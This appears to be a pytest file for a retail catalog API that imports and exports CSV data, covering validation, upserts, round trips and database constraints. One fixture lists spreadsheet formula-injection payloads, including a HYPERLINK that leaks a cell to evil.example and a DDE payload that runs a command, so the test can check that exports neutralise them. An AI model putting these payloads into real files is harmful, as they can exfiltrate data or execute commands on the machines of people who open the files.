"""The catalog API over HTTP, on SQLite and PostgreSQL: imports that apply all rows or none and name every
bad row and column, upserts that count what changed, exports that import back unchanged, and the
database's own constraints."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import httpx
import pytest
from alembic import command
from sqlalchemy import insert, inspect, select
from sqlalchemy.exc import IntegrityError
from sqlalchemy.ext.asyncio import AsyncEngine

from hub.catalog import api as catalog_api
from hub.catalog.api import router
from hub.catalog.models import Shelf, Sku, Slot, StoreProfile
from hub.db.engine import create_engine
from hub.db.migrate import alembic_config, current_revision, head_revision, upgrade_to_head
from hub.db.models import Base
from tests.hub.conftest import router_client
from tests.hub.db.test_migrations import schema_diff

NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)
LATER = datetime(2026, 11, 28, 12, 0, tzinfo=UTC)

SKUS_CSV = (
    "sku_id,gtin,name,unit_weight_g,pack_size,price,currency\n"
    "85123A,4006381333931,WHITE HANGING HEART T-LIGHT HOLDER,120.5,6,2.55,GBP\n"
    "71053,,WHITE METAL LANTERN,,1,3.39,GBP\n"
    '22632,036000291452,"HAND WARMER, RED RETROSPOT",,12,1.85,GBP\n'
)
STORES_CSV = (
    "store_id,name,timezone,currency,mon,tue,wed,thu,fri,sat,sun\n"
    "store-0001,High Street,Europe/London,GBP,08:00-20:00,08:00-20:00,08:00-20:00,08:00-20:00,"
    "08:00-21:00,09:00-13:00;14:00-18:00,\n"
    "store-0002,Night Owl,America/New_York,USD,00:00-02:00;18:00-24:00,,,,,,\n"
)
PLANOGRAM_CSV = (
    "store_id,shelf_id,slot,sku_id,capacity,min_quantity\n"
    "store-0001,shelf-a1,1,85123A,24,6\n"
    "store-0001,shelf-a1,2,71053,10,2\n"
    "store-0001,shelf-b,1,22632,30,0\n"
    "store-0002,shelf-a1,1,85123A,12,12\n"
)


@dataclass
class Clock:
    """The time the app's NowDep answers, set by the test."""

    now: datetime = NOW


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
async def client(engine: AsyncEngine, clock: Clock) -> AsyncIterator[httpx.AsyncClient]:
    """An HTTP client on an app with the catalog router and a session of this test's database."""
    async with router_client(engine, router, now=lambda: clock.now) as http:
        yield http


async def post_csv(client: httpx.AsyncClient, kind: str, text: str | bytes) -> httpx.Response:
    body = text.encode() if isinstance(text, str) else text
    return await client.post(f"/api/v1/catalog/{kind}/import", content=body, headers={"content-type": "text/csv"})


async def imported(client: httpx.AsyncClient, kind: str, text: str) -> dict[str, int]:
    response = await post_csv(client, kind, text)
    assert response.status_code == 200, response.text
    report: dict[str, int] = response.json()
    return report


def row_errors(response: httpx.Response) -> list[tuple[int, str | None, str]]:
    assert response.status_code == 422, response.text
    return [(e["row"], e["column"], e["message"]) for e in response.json()["detail"]]


async def load_all(client: httpx.AsyncClient) -> None:
    assert await imported(client, "skus", SKUS_CSV) == {"created": 3, "updated": 0, "unchanged": 0}
    assert await imported(client, "stores", STORES_CSV) == {"created": 2, "updated": 0, "unchanged": 0}
    assert await imported(client, "planogram", PLANOGRAM_CSV) == {"created": 4, "updated": 0, "unchanged": 0}


# --------------------------------------------------------------------------- SKUs


async def test_skus_are_created_then_unchanged_then_updated(client: httpx.AsyncClient, clock: Clock) -> None:
    assert await imported(client, "skus", SKUS_CSV) == {"created": 3, "updated": 0, "unchanged": 0}
    assert await imported(client, "skus", SKUS_CSV) == {"created": 0, "updated": 0, "unchanged": 3}
    changed = SKUS_CSV.replace("3.39,GBP", "3.75,GBP") + "21730,,GLASS STAR FROSTED T-LIGHT HOLDER,,,4.25,GBP\n"
    clock.now = LATER
    assert await imported(client, "skus", changed) == {"created": 1, "updated": 1, "unchanged": 2}

    lantern = (await client.get("/api/v1/catalog/skus/71053")).json()
    heart = (await client.get("/api/v1/catalog/skus/85123A")).json()
    assert lantern == {
        "sku_id": "71053",
        "gtin": None,
        "name": "WHITE METAL LANTERN",
        "unit_weight_g": None,
        "pack_size": 1,
        "price": "3.75",
        "currency": "GBP",
        "updated_at": "2026-11-28T12:00:00Z",
    }
    assert (heart["gtin"], heart["unit_weight_g"], heart["price"], heart["updated_at"]) == (
        "04006381333931",
        "120.5",
        "2.55",
        "2026-11-27T12:00:00Z",
    )
    assert (await client.get("/api/v1/catalog/skus/NOPE")).status_code == 404


async def test_a_file_with_bad_rows_applies_nothing_and_names_every_row(client: httpx.AsyncClient) -> None:
    await imported(client, "skus", SKUS_CSV)
    bad = (
        "sku_id,gtin,name,unit_weight_g,pack_size,price,currency\n"
        "71053,,WHITE METAL LANTERN,,1,9.99,GBP\n"  # a valid update, which must not be applied
        "NEW-1,,Fine,,,1.00,GBP\n"  # a valid new SKU, which must not be created
        "NEW-2,4006381333932,,,,abc,GBP\n"
        "NEW-3,,Odd,,2.5,1,XXX\n"
    )
    assert row_errors(await post_csv(client, "skus", bad)) == [
        (4, "gtin", "check digit is 2, expected 1"),
        (4, "name", "a value is required"),
        (4, "price", "Input should be a valid decimal"),
        (5, "pack_size", "Input should be a valid integer, unable to parse string as an integer"),
        (5, "currency", "'XXX' is not an ISO 4217 currency code (upper case, e.g. GBP, EUR, JPY)"),
    ]
    items = (await client.get("/api/v1/catalog/skus")).json()["items"]
    assert sorted((s["sku_id"], s["price"]) for s in items) == [
        ("22632", "1.85"),
        ("71053", "3.39"),
        ("85123A", "2.55"),
    ]


async def test_ids_unsafe_in_a_url_path_and_gtins_of_no_trade_item_are_refused(sqlite_engine: AsyncEngine) -> None:
    """GET /skus/.. never reaches the SKU "..": such ids are refused where they enter, with the reason.

    On SQLite only: the rows are refused before anything is stored."""
    async with router_client(sqlite_engine, router, now=lambda: NOW) as client:
        await _refuses_unsafe_ids_and_gtins(client)


async def _refuses_unsafe_ids_and_gtins(client: httpx.AsyncClient) -> None:
    bad = (
        "sku_id,gtin,name,price,currency\n"
        ".,,Dot,1,GBP\n"
        "..,,Dots,1,GBP\n"
        "A/B,,Slash,1,GBP\n"
        "50%,,Half,1,GBP\n"
        "ZERO,00000000000000,Nothing,1,GBP\n"  # passes the check digit, identifies nothing
        "COUPON,9912345678909,Coupon,1,GBP\n"
        "BANK CHARGES,,A code of the real invoices,1,GBP\n"  # a space is fine: clients encode it
    )
    assert row_errors(await post_csv(client, "skus", bad)) == [
        (2, "sku_id", "SKU id '.' is a dot segment that HTTP clients remove from a URL path"),
        (3, "sku_id", "SKU id '..' is a dot segment that HTTP clients remove from a URL path"),
        (4, "sku_id", "SKU id 'A/B' has '/': a SKU id must be safe as one URL path segment"),
        (5, "sku_id", "SKU id '50%' has '%': a SKU id must be safe as one URL path segment"),
        (6, "gtin", "00000000000000 is not a trade item GTIN: an all-zero GTIN identifies nothing"),
        (7, "gtin", "9912345678909 is not a trade item GTIN: GS1 prefix 99 is for coupons"),
    ]
    assert await imported(client, "skus", "sku_id,name,price,currency\nBANK CHARGES,Fee,1,GBP\n") == {
        "created": 1,
        "updated": 0,
        "unchanged": 0,
    }
    assert (await client.get("/api/v1/catalog/skus/BANK CHARGES")).json()["name"] == "Fee"
    planogram = "store_id,shelf_id,slot,sku_id,capacity,min_quantity\nstore-0001,shelf-a1,1,..,24,6\n"
    assert row_errors(await post_csv(client, "planogram", planogram)) == [
        (2, "sku_id", "SKU id '..' is a dot segment that HTTP clients remove from a URL path")
    ]


@pytest.mark.parametrize(
    ("text", "errors"),
    [
        ("", [(1, None, "the file is empty; it needs a header")]),
        ("sku_id,price,currency\nA,1,GBP\n", [(1, "name", "required column is missing")]),
        (
            "sku_id,name,price,currency,colour\nA,x,1,GBP,red\n",
            [
                (
                    1,
                    "colour",
                    "unknown column; columns are sku_id, gtin, name, unit_weight_g, pack_size, price, currency",
                )
            ],
        ),
    ],
)
async def test_header_errors_are_named(client: httpx.AsyncClient, text: str, errors: list[Any]) -> None:
    assert row_errors(await post_csv(client, "skus", text)) == errors


async def test_gtins_belong_to_one_sku(client: httpx.AsyncClient) -> None:
    await imported(client, "skus", SKUS_CSV)
    header = "sku_id,gtin,name,price,currency\n"
    text = header + "N1,96385074,a,1,GBP\nN2,00000096385074,b,1,GBP\nN3,4006381333931,c,1,GBP\n"
    assert row_errors(await post_csv(client, "skus", text)) == [
        (3, "gtin", "GTIN 00000096385074 is already on row 2"),
        (4, "gtin", "GTIN 04006381333931 belongs to SKU '85123A'"),
    ]
    # Moving a GTIN is fine when the same file takes it off its holder.
    moved = header + "85123A,,WHITE HANGING HEART T-LIGHT HOLDER,2.55,GBP\nN3,4006381333931,c,1,GBP\n"
    assert await imported(client, "skus", moved) == {"created": 1, "updated": 1, "unchanged": 0}


async def test_the_body_must_be_csv_in_utf8(client: httpx.AsyncClient) -> None:
    response = await client.post("/api/v1/catalog/skus/import", json={"sku_id": "A"})
    assert response.status_code == 415
    latin1 = "sku_id,name,price,currency\nA,Café,1,EUR\n".encode("latin-1")
    assert row_errors(await post_csv(client, "skus", latin1)) == [(2, None, "not UTF-8 (byte 32)")]


async def test_a_body_past_the_limit_is_refused(client: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(catalog_api, "MAX_CSV_BYTES", len(SKUS_CSV) - 1)
    assert (await post_csv(client, "skus", SKUS_CSV)).status_code == 413
    assert (await client.get("/api/v1/catalog/skus")).json()["items"] == []


async def test_the_openapi_document_shows_csv_bodies(client: httpx.AsyncClient) -> None:
    paths = (await client.get("/openapi.json")).json()["paths"]
    for kind in ("skus", "stores", "planogram"):
        body = paths[f"/api/v1/catalog/{kind}/import"]["post"]["requestBody"]
        assert body["content"] == {"text/csv": {"schema": {"type": "string"}}}
        assert "text/csv" in paths[f"/api/v1/catalog/{kind}/export"]["get"]["responses"]["200"]["content"]


async def test_skus_are_listed_by_id_in_pages(client: httpx.AsyncClient) -> None:
    await imported(client, "skus", SKUS_CSV)
    first = (await client.get("/api/v1/catalog/skus", params={"limit": 2})).json()
    assert [s["sku_id"] for s in first["items"]] == ["22632", "71053"]
    second = (await client.get("/api/v1/catalog/skus", params={"limit": 2, "after": first["next_after"]})).json()
    assert ([s["sku_id"] for s in second["items"]], second["next_after"]) == (["85123A"], None)


# --------------------------------------------------------------------------- stores


async def test_store_profiles_keep_hours_per_weekday(client: httpx.AsyncClient) -> None:
    await imported(client, "stores", STORES_CSV)
    store = (await client.get("/api/v1/catalog/stores/store-0001")).json()
    assert store["timezone"] == "Europe/London"
    assert store["opening_hours"] == {
        "mon": ["08:00-20:00"],
        "tue": ["08:00-20:00"],
        "wed": ["08:00-20:00"],
        "thu": ["08:00-20:00"],
        "fri": ["08:00-21:00"],
        "sat": ["09:00-13:00", "14:00-18:00"],
        "sun": [],
    }
    listed = (await client.get("/api/v1/catalog/stores")).json()["items"]
    assert [s["store_id"] for s in listed] == ["store-0001", "store-0002"]
    assert (await client.get("/api/v1/catalog/stores/store-0404")).status_code == 404


async def test_bad_time_zones_and_hours_are_named_by_row_and_column(client: httpx.AsyncClient) -> None:
    text = (
        "store_id,name,timezone,currency,mon,tue,wed,thu,fri,sat,sun\n"
        "store-0003,Ok,Europe/Paris,EUR,,,,,,,\n"
        "store-0004,Typo,Europe/Pariss,EUR,08:00-20:00,,,,,,\n"
        "store-0005,Late,Europe/Paris,EUR,,,,,,22:00-02:00,09:00-12:00;11:00-13:00\n"
    )
    assert row_errors(await post_csv(client, "stores", text)) == [
        (3, "timezone", "'Europe/Pariss' is not an IANA time zone name (e.g. Europe/London, America/New_York)"),
        (
            4,
            "sat",
            "'22:00-02:00' ends before it starts; split a night across midnight, e.g. 22:00-24:00 and 00:00-02:00 "
            "of the next day",
        ),
        (4, "sun", "intervals must be in order and not overlap: 09:00-12:00 then 11:00-13:00"),
    ]
    assert (await client.get("/api/v1/catalog/stores")).json()["items"] == []


# --------------------------------------------------------------------------- planogram


async def test_slots_name_unknown_stores_and_skus_by_row(client: httpx.AsyncClient) -> None:
    await imported(client, "skus", SKUS_CSV)
    await imported(client, "stores", STORES_CSV)
    text = (
        "store_id,shelf_id,slot,sku_id,capacity,min_quantity\n"
        "store-0001,shelf-a1,1,85123A,24,6\n"
        "store-0001,shelf-a1,2,GHOST,10,2\n"
        "store-0009,shelf-z,1,85123A,10,2\n"
        "store-0001,shelf-a1,3,71053,4,5\n"
    )
    assert row_errors(await post_csv(client, "planogram", text)) == [
        (3, "sku_id", "unknown SKU 'GHOST': import it with skus.csv first"),
        (4, "store_id", "unknown store 'store-0009': import it with stores.csv first"),
        (5, "min_quantity", "minimum 5 is more than the capacity 4"),
    ]
    assert (await client.get("/api/v1/catalog/planogram")).json()["items"] == []


async def test_planogram_upserts_slots_and_lists_them_per_store(client: httpx.AsyncClient) -> None:
    await load_all(client)
    changed = PLANOGRAM_CSV.replace("71053,10,2", "71053,12,3")
    assert await imported(client, "planogram", changed) == {"created": 0, "updated": 1, "unchanged": 3}
    slots = (await client.get("/api/v1/catalog/stores/store-0001/slots")).json()["items"]
    assert [(s["shelf_id"], s["slot"], s["sku_id"], s["capacity"], s["min_quantity"]) for s in slots] == [
        ("shelf-a1", 1, "85123A", 24, 6),
        ("shelf-a1", 2, "71053", 12, 3),
        ("shelf-b", 1, "22632", 30, 0),
    ]
    assert (await client.get("/api/v1/catalog/stores/store-0404/slots")).status_code == 404


# --------------------------------------------------------------------------- round trip


@pytest.mark.parametrize(("kind", "count"), [("skus", 3), ("stores", 2), ("planogram", 4)])
async def test_an_export_imports_back_unchanged(client: httpx.AsyncClient, kind: str, count: int) -> None:
    await load_all(client)
    exported = await client.get(f"/api/v1/catalog/{kind}/export")
    assert exported.status_code == 200
    assert exported.headers["content-type"] == "text/csv; charset=utf-8"
    assert await imported(client, kind, exported.text) == {"created": 0, "updated": 0, "unchanged": count}
    assert (await client.get(f"/api/v1/catalog/{kind}/export")).text == exported.text


async def test_the_sku_export_is_the_canonical_form_of_the_import(client: httpx.AsyncClient) -> None:
    await imported(client, "skus", SKUS_CSV)
    exported = (await client.get("/api/v1/catalog/skus/export")).text
    assert exported.splitlines() == [
        "sku_id,gtin,name,unit_weight_g,pack_size,price,currency",
        '22632,00036000291452,"HAND WARMER, RED RETROSPOT",,12,1.85,GBP',
        "71053,,WHITE METAL LANTERN,,1,3.39,GBP",
        "85123A,04006381333931,WHITE HANGING HEART T-LIGHT HOLDER,120.5,6,2.55,GBP",
    ]


# --------------------------------------------------------------------------- formula injection

# Names a spreadsheet would run if an export wrote them as they are (OWASP, CSV injection).
FORMULA_NAMES = {
    "EVIL-1": '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")',
    "EVIL-2": "+cmd|' /C calc'!A0",
    "EVIL-3": "-2+3",
    "EVIL-4": "@SUM(A1:A9)",
}


async def test_formula_names_are_exported_as_text_and_import_back_unchanged(client: httpx.AsyncClient) -> None:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["sku_id", "gtin", "name", "unit_weight_g", "pack_size", "price", "currency"])
    for sku_id, name in FORMULA_NAMES.items():
        writer.writerow([sku_id, "", name, "", "1", "2.50", "GBP"])
    writer.writerow(["=SKU", "", "-5", "", "1", "0", "GBP"])  # a formula-like id, a name that is a plain number
    # An apostrophe before a formula is the spreadsheet's text marker (and our export's), not part of the name.
    writer.writerow(["EVIL-5", "", "'=SUM(A1)", "", "1", "0", "GBP"])
    assert await imported(client, "skus", out.getvalue()) == {"created": 6, "updated": 0, "unchanged": 0}
    # Imports take names as given: the JSON API shows them as they are (JSON is not a spreadsheet).
    items = {item["sku_id"]: item["name"] for item in (await client.get("/api/v1/catalog/skus")).json()["items"]}
    assert items == FORMULA_NAMES | {"=SKU": "-5", "EVIL-5": "=SUM(A1)"}

    exported = (await client.get("/api/v1/catalog/skus/export")).text
    rows = {row["sku_id"]: row for row in csv.DictReader(io.StringIO(exported))}
    assert {sku_id: rows[sku_id]["name"] for sku_id in [*FORMULA_NAMES, "EVIL-5"]} == {
        sku_id: "'" + name for sku_id, name in (FORMULA_NAMES | {"EVIL-5": "=SUM(A1)"}).items()
    }
    assert "'=SKU" in rows  # the id column too: every text cell
    assert rows["'=SKU"]["name"] == "-5"  # a plain number is no formula and is left alone
    for row in rows.values():
        assert row["price"] in ("2.50", "0.00", "0")  # numbers stay numbers
        assert row["pack_size"] == "1"
        assert all(not cell or cell[0] not in "=+@" for cell in row.values())

    # The export imports back as it was: the apostrophes are the export's, not part of the names.
    assert await imported(client, "skus", exported) == {"created": 0, "updated": 0, "unchanged": 6}
    again = {item["sku_id"]: item["name"] for item in (await client.get("/api/v1/catalog/skus")).json()["items"]}
    assert again == items


# --------------------------------------------------------------------------- the database itself


@pytest.mark.parametrize(
    ("slot", "reason"),
    [
        ({"sku_id": "NOPE", "capacity": 5, "min_quantity": 1}, "unknown SKU"),
        ({"sku_id": "A", "capacity": 5, "min_quantity": 6}, "minimum above capacity"),
        ({"sku_id": "A", "capacity": 0, "min_quantity": 0}, "no capacity"),
    ],
)
async def test_the_database_refuses_bad_slots_on_its_own(
    engine: AsyncEngine, slot: dict[str, Any], reason: str
) -> None:
    """The constraints hold for writers that skip the import's checks too."""
    async with engine.begin() as connection:
        await connection.execute(
            insert(Sku).values(sku_id="A", name="a", pack_size=1, price=1, currency="GBP", updated_at=NOW)
        )
        await connection.execute(
            insert(StoreProfile).values(
                store_id="s-1", name="s", timezone="UTC", currency="GBP", opening_hours={}, updated_at=NOW
            )
        )
        await connection.execute(insert(Shelf).values(store_id="s-1", shelf_id="sh-1"))
    with pytest.raises(IntegrityError):
        async with engine.begin() as connection:
            await connection.execute(
                insert(Slot).values(store_id="s-1", shelf_id="sh-1", slot=1, updated_at=NOW, **slot)
            )
    async with engine.connect() as connection:
        assert (await connection.execute(select(Slot))).all() == [], reason


async def test_migration_0003_matches_the_models_and_can_be_undone(empty_database_url: str) -> None:
    # Up to 0004 and back: 0005 (gateways keyed by store and gateway) cannot be undone.
    await asyncio.to_thread(command.upgrade, alembic_config(empty_database_url), "0004")
    engine = create_engine(empty_database_url)
    try:
        await asyncio.to_thread(command.downgrade, alembic_config(empty_database_url), "0002")
        async with engine.connect() as connection:
            tables = await connection.run_sync(lambda sync: set(inspect(sync).get_table_names()))
        assert tables.isdisjoint({"skus", "store_profiles", "shelves", "slots"})
        await upgrade_to_head(empty_database_url)
        assert await current_revision(engine) == head_revision()
        assert await schema_diff(engine, Base.metadata) == []
    finally:
        await engine.dispose()
